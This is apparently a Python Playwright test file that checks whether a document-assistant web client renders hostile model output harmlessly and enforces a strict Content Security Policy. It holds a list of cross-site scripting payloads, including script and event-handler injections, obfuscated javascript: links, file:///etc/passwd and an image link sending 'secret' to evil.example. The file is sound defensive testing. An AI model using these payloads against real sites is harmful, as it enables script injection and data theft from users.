"""Text of models, thinking, names and addresses are hostile: they are shown and do nothing."""

from __future__ import annotations

import pytest
from playwright.async_api import Browser, expect

from aizoomdoc_client.page import HEADERS
from aizoomdoc_client.testing import Deltas, Emit, ScriptedServer
from aizoomdoc_client.testing.answer_presets import COMPLETED, STARTED, final, phase, thinking
from tests.browser.backends import Backend, needs_chromium
from tests.browser.conftest import NewUser
from tests.browser.pages import COMPLETE, ask, status_of, text_of

pytestmark = [needs_chromium, pytest.mark.asyncio(loop_scope="session")]

IMAGE = "<img src=x onerror=window.hacked=1>"
HOSTILE = """\
<script>window.hacked = 1; alert(1)</script>
<img src=x onerror="window.hacked = 1"> <svg onload="window.hacked = 1"></svg>
<iframe srcdoc="<script>top.hacked = 1</script>"></iframe>

<style>body { display: none }</style>
<form action="https://evil.example"><button>OK</button></form><base href="https://evil.example/">

![picture](https://evil.example/?what=secret) ![picture](javascript:window.hacked=1) ![d](data:image/svg+xml;base64,PHN2Zz4=)

[click](javascript:window.hacked=1) [click](JaVaScRiPt:window.hacked=1) [click](java&#x0a;script:window.hacked=1)
[click](&#x6a;avascript:window.hacked=1) [click](data:text/html,<script>window.hacked=1</script>) [click](vbscript:msgbox)
[click]( javascript:window.hacked=1) [click](//evil.example/) [click](/answers) [click](file:///etc/passwd) [click](blob:x)
<javascript:window.hacked=1> <https://"onmouseover="window.hacked=1"/> [a](https://x.example "\\" onmouseover=\\"window.hacked=1")

[ref]: javascript:window.hacked=1
[ref] ![ref]

```html" onclick="window.hacked=1
<script>window.hacked = 1</script>
```

| <img src=x onerror=window.hacked=1> | b |
|:-:|--:|
| `<script>` | <b onmouseover=window.hacked=1>b</b> |

"""
TAGS = "DIV P A H3 H4 H5 H6 PRE CODE TABLE THEAD TBODY TR TH TD UL OL LI EM STRONG S BLOCKQUOTE HR BR"
SAFE_TAGS = set(TAGS.split())
SAFE_ATTRIBUTES = {"href", "target", "rel", "title", "class", "start", "value", "data-marker", "tabindex"}
LOOK_AT = (
    "(root) => [...root.querySelectorAll('*')].map((one) => [one.tagName, one.getAttributeNames(), one.getAttribute('href')])"
)


async def test_hostile_text_does_nothing(server: ScriptedServer, backend: Backend, new_user: NewUser) -> None:
    """No element or attribute comes of it but those of Markdown, no host is called, no script runs; it can be read."""
    server.script_answer([
        STARTED,
        phase(IMAGE, "<script>window.hacked=1</script>"),
        thinking([HOSTILE]),
        Emit("image_ready", {"block_id": '"><script>window.hacked=1</script>', "url": "javascript:window.hacked=1"}),
        Emit("image_ready", {"block_id": "b", "url": "data:text/html,<script>window.hacked=1</script>"}),
        Emit("tool_call", {"tool": IMAGE, "parameters": {}}),
        Deltas([HOSTILE[:50], HOSTILE[50:]]),
        final(HOSTILE, sources=[{"document": IMAGE, "page": 1}], notes=["<script>window.hacked=1</script>"]),
        COMPLETED,
    ])  # fmt: skip
    page = await (await new_user()).new_page()
    await page.goto(backend.url)
    await ask(page, IMAGE)
    await expect(status_of(page)).to_have_text(COMPLETE)
    await page.get_by_text("Thinking").click()
    for link in await page.locator(".text a").all():
        await link.hover()
    for part in (text_of(page), page.locator(".thinking .markdown")):
        found = await part.evaluate(LOOK_AT)
        assert {tag for tag, _, _ in found} <= SAFE_TAGS
        assert {name for _, names, _ in found for name in names} <= SAFE_ATTRIBUTES
        links = {href for tag, _, href in found if tag == "A"}
        assert links
        assert all(link.startswith(("https://", "http://")) for link in links), links
    assert await page.locator("article img, article script, article iframe, article form").count() == 0
    await expect(text_of(page)).to_contain_text("<script>window.hacked = 1; alert(1)</script>")
    await expect(page.locator(".sources li")).to_have_text(f"{IMAGE}, page 1")
    await page.reload()
    await expect(status_of(page)).to_have_text(COMPLETE)
    assert await page.evaluate("window.hacked") is None
    assert page.url.startswith(backend.url)


async def test_policy_stops_what_slips_through(backend: Backend, chromium: Browser) -> None:
    """Were there a hole in the page's scripts, the browser would still run nothing and ask no other host."""
    page = await chromium.new_page()
    response = await page.goto(backend.url)
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert policy == HEADERS["Content-Security-Policy"]
    assert "unsafe" not in policy
    assert await page.evaluate("try { document.body.innerHTML = '<b>x</b>'; '' } catch (error) { error.name }") == "TypeError"
    await page.evaluate("""() => {
      const script = document.createElement('script');
      script.append('window.hacked = 1');
      try { document.body.append(script) } catch {}
    }""")
    assert await page.evaluate("window.hacked") is None
    assert await page.evaluate("fetch('https://evil.example/').catch((error) => error.name)") == "TypeError"
    await page.context.close()
